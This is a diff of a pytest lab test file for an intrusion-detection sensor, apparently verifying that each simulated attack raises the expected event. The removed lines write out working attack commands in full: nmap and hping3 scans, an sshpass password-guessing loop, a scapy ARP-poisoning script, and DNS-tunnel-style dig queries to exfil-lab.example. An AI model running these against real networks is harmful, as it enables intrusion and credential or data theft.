@@ -7,15 +7,19 @@ with sshd and a DNS resolver, a DMZ and a partner) runs ``netwarden auditor
 mirrors every frame to. The firewalls keep the lab's base ruleset (forward
 everything, count per zone pair): the sensor, not the firewall, is under test.
 
-Each test runs one attack from a client namespace (a guest's, but for the hping3 scan
-from staff and the ARP spoof inside the voice zone) with the real tool (nmap, hping3,
-ssh with sshpass, dig; the ARP spoof with scapy for an exact count), aimed only at
-lab addresses and bounded in packets and time, and waits (bounded) for the event
-in HQ's sensor's events file (``<lab>/.lab/sensors/jed-sensor1/events.jsonl``):
-detector, site, sensor, source and destination, and the zones where the event has
-them. No two attacks that one detector reports share a source (incidents are keyed
-by source), so one attack's incident never satisfies another's test. The ``udp_sweep``, ``arp_sweep`` and the dozen-query
-``dns_tunnel`` cases expect those detectors' names as issue 18 specifies them.
+Each test runs one attack of ``netwarden.lab.ns.attacks`` (the definitions ``make
+demo`` runs live too: the node, the commands, the detector, source and destination
+expected) from a client namespace (a guest's, but for the hping3 scan from staff and
+the ARP spoof inside the voice zone) with the real tool (nmap, hping3, ssh with
+sshpass, dig; the ARP spoof with scapy for an exact count), aimed only at lab
+addresses and bounded in packets and time, and waits (bounded) for the event in HQ's
+sensor's events file (``<lab>/.lab/sensors/jed-sensor1/events.jsonl``): detector,
+site, sensor, source and destination, and the zones where the event has them. The
+test checks the definition's node and target against the lab's own names, so a
+definition cannot drift from what the test says it attacks. No two attacks that one
+detector reports share a source (incidents are keyed by source), so one attack's
+incident never satisfies another's test. The ``udp_sweep``, ``arp_sweep`` and the
+dozen-query ``dns_tunnel`` cases expect those detectors' names as issue 18 specifies them.
 
 Root only; skips without root, nftables or one of the tools (``apt-get install
 nmap hping3 sshpass``, ``scripts/debian-packages.txt``). One lab for the module,
@@ -26,12 +30,11 @@ from __future__ import annotations
 
 import json
 import os
-import secrets
 import shutil
 import subprocess
 import sys
 import time
-from collections.abc import Callable, Iterator
+from collections.abc import Iterator
 from dataclasses import dataclass
 from pathlib import Path
 from typing import Any
@@ -39,11 +42,20 @@ from typing import Any
 import pytest
 
 from netwarden.inventory import Inventory, load_inventory
-from netwarden.lab.ns.sensors import EVENTS_FILE, SENSORS_DIR, read_events
-from netwarden.lab.ns.state import read_state, work_dir
+from netwarden.lab.ns.attacks import TOOLS as ATTACK_TOOLS
+from netwarden.lab.ns.attacks import (
+    Attack,
+    AttackRun,
+    Expect,
+    events_file,
+    plan_attacks,
+    run_attack,
+)
+from netwarden.lab.ns.sensors import read_events
+from netwarden.lab.ns.state import LabState
 from tests.lab.nslab import in_ns, lab_prefix, ping, sensor_lab
 
-TOOLS = ("nft", "nmap", "hping3", "sshpass", "ssh", "dig")
+TOOLS = ("nft", *ATTACK_TOOLS)
 
 pytestmark = [
     pytest.mark.lab,
@@ -57,37 +69,6 @@ pytestmark = [
 SITE = "jed"
 SENSOR = "jed-sensor1"
 EVENT_WAIT = 20.0  # seconds an event may take to appear (the auditor reads in batches)
-GUESSES = 12  # ssh_bruteforce opens at 10 short sessions
-DNS_QUERIES = 12
-
-CONNECT = r"""
-import socket, sys
-src, dst, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
-s = socket.socket()
-s.settimeout(5)
-if src:
-    s.bind((src, 0))
-try:
-    s.connect((dst, port))
-    print("connected")
-except OSError as exc:
-    print("failed:", exc)
-finally:
-    s.close()
-"""
-
-ARP_SPOOF = r"""
-import sys
-from scapy.layers.l2 import ARP, Ether
-from scapy.arch import get_if_hwaddr
-from scapy.sendrecv import sendp
-gateway, victim, victim_mac, count = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
-me = get_if_hwaddr("eth0")
-# "the gateway is-at <me>", unasked, to the victim: the classic poisoning reply
-sendp(Ether(src=me, dst=victim_mac) / ARP(op=2, hwsrc=me, psrc=gateway, hwdst=victim_mac,
-      pdst=victim), iface="eth0", count=count, inter=0.2, verbose=False)
-print(me)
-"""
 
 
 @dataclass(frozen=True)
@@ -95,12 +76,12 @@ class Lab:
     path: Path
     inventory: Inventory
     prefix: str
+    state: LabState
+    attacks: dict[str, Attack]
     addresses: dict[str, str]  # client node -> its address
 
     def ns(self, node: str) -> str:
-        state = read_state(self.path)
-        assert state is not None
-        return state.header.nodes[node].netns
+        return self.state.header.nodes[node].netns
 
     def mac(self, node: str) -> str:
         done = in_ns(self.ns(node), "cat", "/sys/class/net/eth0/address")
@@ -111,7 +92,13 @@ class Lab:
         return str(self.inventory.devices[name].service_address())
 
     def events(self) -> list[dict[str, Any]]:
-        return read_events(work_dir(self.path) / SENSORS_DIR / SENSOR / EVENTS_FILE)
+        return read_events(events_file(self.path, SENSOR))
+
+    def run(self, name: str) -> tuple[Attack, AttackRun]:
+        """The matrix's attack ``name`` (netwarden.lab.ns.attacks, which the demo runs too)."""
+        attack = self.attacks[name]
+        assert (attack.expect.site, attack.expect.sensor) == (SITE, SENSOR)
+        return attack, run_attack(self.state, attack)
 
 
 @pytest.fixture(scope="module")
@@ -124,15 +111,17 @@ def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
             for name, node in state.header.nodes.items()
             if node.kind == "client" and node.addresses
         }
-        yield Lab(path, load_inventory(path), lab_prefix(path), addresses)
+        inventory = load_inventory(path)
+        yield Lab(path, inventory, lab_prefix(path), state, plan_attacks(inventory, state, SITE),
+                  addresses)  # fmt: skip
 
 
-def wait_event(lab: Lab, what: str, match: Callable[[dict[str, Any]], bool]) -> dict[str, Any]:
-    """The first event of HQ's sensor ``match`` accepts, waiting at most EVENT_WAIT s."""
+def wait_event(lab: Lab, what: str, expect: Expect) -> dict[str, Any]:
+    """The first event of HQ's sensor ``expect`` matches, waiting at most EVENT_WAIT s."""
     deadline = time.monotonic() + EVENT_WAIT
     while True:
         events = lab.events()
-        found = [e for e in events if match(e)]
+        found = [e for e in events if expect.matches(e)]
         if found:
             return found[0]
         if time.monotonic() >= deadline:
@@ -140,24 +129,6 @@ def wait_event(lab: Lab, what: str, match: Callable[[dict[str, Any]], bool]) -> 
             raise AssertionError(f"{what}: no such event from {SENSOR} in {EVENT_WAIT:g} s; "
                                  f"its events (detector, src, dst): {seen}")  # fmt: skip
         time.sleep(0.3)
-
-
-def of(detector: str, src: str, dst: str | None = None) -> Callable[[dict[str, Any]], bool]:
-    def match(event: dict[str, Any]) -> bool:
-        return bool(
-            event["detector"] == detector
-            and event["src"] == src
-            and (dst is None or event["dst"] == dst)
-            and event["site"] == SITE
-            and event["sensor"] == SENSOR
-        )
-
-    return match
-
-
-def run(lab: Lab, node: str, *argv: str, timeout: float = 60) -> subprocess.CompletedProcess[str]:
-    """``argv`` in ``node``'s namespace, bounded by ``timeout`` (the tool's own bounds first)."""
-    return in_ns(lab.ns(node), "timeout", str(int(timeout)), *argv, timeout=timeout + 10)
 
 
 def test_auditors_run_on_every_sensor(lab: Lab) -> None:
@@ -175,62 +146,55 @@ def test_auditors_run_on_every_sensor(lab: Lab) -> None:
 
 def test_nmap_tcp_syn_scan(lab: Lab) -> None:
     attacker, target = "jed-guests-c1", lab.server("jed-file1")
-    done = run(lab, attacker, "nmap", "-n", "-Pn", "-sS", "-p", "1-300", "--max-rate", "1000",
-               "--max-retries", "1", target)  # fmt: skip
-    assert done.returncode == 0, done.stderr
-    event = wait_event(lab, "nmap -sS", of("port_scan", lab.addresses[attacker], target))
+    attack, done = lab.run("port_scan")
+    assert (attack.node, attack.expect.dst) == (attacker, target)
+    assert done.runs[0].returncode == 0, done.output
+    event = wait_event(lab, "nmap -sS", attack.expect)
+    assert (event["src"], event["dst"]) == (lab.addresses[attacker], target)
     assert event["count"] >= 100
 
 
 def test_nmap_udp_sweep(lab: Lab) -> None:
     """One UDP port (one nmap sends no payload to) on 100 addresses of HQ's servers zone."""
     attacker = "jed-guests-c1"
-    first = lab.inventory.sites[SITE].zones["servers"].subnet.network_address + 100
-    sweep = f"{first}-{int(str(first).rsplit('.', 1)[1]) + 99}"  # nmap's a.b.c.100-199
-    done = run(lab, attacker, "nmap", "-n", "-Pn", "-sU", "-p", "40125", "--max-rate", "200",
-               "--max-retries", "0", "--max-rtt-timeout", "200ms", "--min-hostgroup", "100",
-               sweep)  # fmt: skip
-    assert done.returncode == 0, done.stderr
-    wait_event(lab, "nmap -sU sweep", of("udp_sweep", lab.addresses[attacker]))
+    attack, done = lab.run("udp_sweep")
+    assert attack.node == attacker
+    assert done.runs[0].returncode == 0, done.output
+    event = wait_event(lab, "nmap -sU sweep", attack.expect)
+    assert event["src"] == lab.addresses[attacker]
 
 
 def test_nmap_arp_sweep(lab: Lab) -> None:
     """Who-has for every address of the attacker's own /24 (HQ's guests zone), in seconds."""
     attacker = "jed-guests-c1"
-    subnet = lab.inventory.sites[SITE].zones["guests"].subnet
-    done = run(lab, attacker, "nmap", "-n", "-sn", "-PR", "--max-rate", "1000", str(subnet))
-    assert done.returncode == 0, done.stderr
-    mac = lab.mac(attacker)
+    attack, done = lab.run("arp_sweep")
+    assert attack.node == attacker
+    assert done.runs[0].returncode == 0, done.output
     # the sweeper named by its address or, ARP being layer 2, its MAC
-    wait_event(lab, "nmap -sn -PR", lambda e: of("arp_sweep", lab.addresses[attacker])(e)
-               or of("arp_sweep", mac)(e))  # fmt: skip
+    event = wait_event(lab, "nmap -sn -PR", attack.expect)
+    assert event["src"] in (lab.addresses[attacker], lab.mac(attacker))
 
 
 def test_hping3_syn_scan(lab: Lab) -> None:
     """From a staff client: nmap's scan from guests-c1 is a port_scan incident of its own."""
     attacker, target = "jed-staff-c1", lab.server("jed-file1")
-    # 40 SYNs to ports 1000..1039 (++: one more each), 20 ms apart
-    done = run(lab, attacker, "hping3", "-S", "-p", "++1000", "-c", "40", "-i", "u20000", target)
-    assert "40 packets transmitted" in done.stdout + done.stderr, done.stdout + done.stderr
-    event = wait_event(lab, "hping3 -S", of("port_scan", lab.addresses[attacker], target))
+    attack, done = lab.run("hping3_scan")
+    assert (attack.node, attack.expect.dst) == (attacker, target)
+    assert "40 packets transmitted" in done.output, done.output
+    event = wait_event(lab, "hping3 -S", attack.expect)
+    assert event["src"] == lab.addresses[attacker]
     assert event["count"] >= 10
 
 
 def test_ssh_password_guessing(lab: Lab) -> None:
-    """GUESSES wrong passwords against HQ's DNS server's real sshd (one session each)."""
+    """A dozen wrong passwords against HQ's DNS server's real sshd (one session each)."""
     attacker, target = "jed-guests-c1", lab.server("jed-dns1")
-    for _ in range(GUESSES):
-        done = run(
-            lab, attacker, "sshpass", "-p", secrets.token_hex(8),
-            "ssh", "-F", "/dev/null", "-o", "StrictHostKeyChecking=no",
-            "-o", "UserKnownHostsFile=/dev/null", "-o", "PubkeyAuthentication=no",
-            "-o", "PreferredAuthentications=password,keyboard-interactive",
-            "-o", "NumberOfPasswordPrompts=1", "-o", "ConnectTimeout=5",
-            f"netwarden@{target}", "true",
-            timeout=20,
-        )  # fmt: skip
-        assert done.returncode != 0  # refused, never logged in
-    event = wait_event(lab, "ssh guessing", of("ssh_bruteforce", lab.addresses[attacker], target))
+    attack, done = lab.run("ssh_guessing")
+    assert (attack.node, attack.expect.dst) == (attacker, target)
+    assert len(done.runs) >= 10
+    assert all(r.returncode != 0 for r in done.runs)  # refused, never logged in
+    event = wait_event(lab, "ssh guessing", attack.expect)
+    assert (event["src"], event["dst"]) == (lab.addresses[attacker], target)
     assert event["count"] >= 10
 
 
@@ -239,24 +203,24 @@ def test_arp_spoof(lab: Lab) -> None:
     attacker, victim = "jed-voice-c1", "jed-voice-c2"
     gateway = str(lab.inventory.sites[SITE].zones["voice"].gateway)
     assert ping(lab.ns(victim), gateway)  # the victim learns the real binding first
-    done = in_ns(lab.ns(attacker), sys.executable, "-c", ARP_SPOOF, gateway,
-                 lab.addresses[victim], lab.mac(victim), "5", timeout=60)  # fmt: skip
-    assert done.returncode == 0, done.stderr
-    mac = done.stdout.strip()
-    event = wait_event(lab, "ARP spoof", of("arp_spoof", mac))
+    attack, done = lab.run("arp_spoof")
+    assert attack.node == attacker
+    assert done.runs[0].returncode == 0, done.output
+    mac = done.runs[0].stdout.strip()
+    assert mac == lab.mac(attacker)
+    event = wait_event(lab, "ARP spoof", attack.expect)
+    assert event["src"] == mac
     assert event["evidence"]["ip"] == gateway
 
 
 def test_dns_tunnel(lab: Lab) -> None:
     """A dozen TXT/MX/CNAME queries, about one a second, of 40 hex characters under one domain."""
-    attacker, resolver = "jed-guests-c1", lab.server("jed-dns1")
-    kinds = ("TXT", "MX", "CNAME")
-    for n in range(DNS_QUERIES):
-        name = f"{secrets.token_hex(20)}.t.exfil-lab.example"
-        run(lab, attacker, "dig", "+tries=1", "+time=1", f"@{resolver}", name, kinds[n % 3],
-            timeout=10)  # fmt: skip
-        time.sleep(1.0)
-    event = wait_event(lab, "DNS tunnel", of("dns_tunnel", lab.addresses[attacker]))
+    attacker = "jed-guests-c1"
+    attack, done = lab.run("dns_tunnel")
+    assert attack.node == attacker
+    assert len(done.runs) >= 12
+    event = wait_event(lab, "DNS tunnel", attack.expect)
+    assert event["src"] == lab.addresses[attacker]
     assert event["evidence"]["domain"] == "exfil-lab.example"
 
 
@@ -264,9 +228,11 @@ def test_forbidden_zone_crossing(lab: Lab) -> None:
     """guests -> servers on smb (tcp/445, one of probeplan.FORBIDDEN_PORTS)."""
     # guests-c1 scans the servers too: the other guest, so that the incident is this one's
     attacker, target = "jed-guests-c2", lab.server("jed-file1")
-    done = in_ns(lab.ns(attacker), sys.executable, "-c", CONNECT, "", target, "445")
-    assert done.returncode == 0, done.stderr
-    event = wait_event(lab, "guests -> servers", of("policy_violation", lab.addresses[attacker]))
+    attack, done = lab.run("zone_crossing")
+    assert attack.node == attacker
+    assert done.runs[0].returncode == 0, done.output
+    event = wait_event(lab, "guests -> servers", attack.expect)
+    assert event["src"] == lab.addresses[attacker]
     assert event["evidence"]["src_zone"] == f"{SITE}/guests"
     assert event["evidence"]["dst_zone"] == f"{SITE}/servers"
     assert event["dst"] == target
@@ -277,8 +243,10 @@ def test_partner_reaches_unpublished_service(lab: Lab) -> None:
     partner = lab.inventory.partners["ms-mofa"]
     source = str(next(partner.networks[0].hosts()))
     target = lab.server("jed-web1")
-    done = in_ns(lab.ns("ms-mofa"), sys.executable, "-c", CONNECT, source, target, "22")
-    assert done.returncode == 0, done.stderr
-    event = wait_event(lab, "partner -> dmz ssh", of("policy_violation", source, target))
+    attack, done = lab.run("partner_unpublished")
+    assert attack.node == "ms-mofa"
+    assert done.runs[0].returncode == 0, done.output
+    event = wait_event(lab, "partner -> dmz ssh", attack.expect)
+    assert (event["src"], event["dst"]) == (source, target)
     assert event["evidence"]["src_zone"] == f"{SITE}/partners"
     assert event["evidence"]["dst_zone"] == f"{SITE}/dmz"
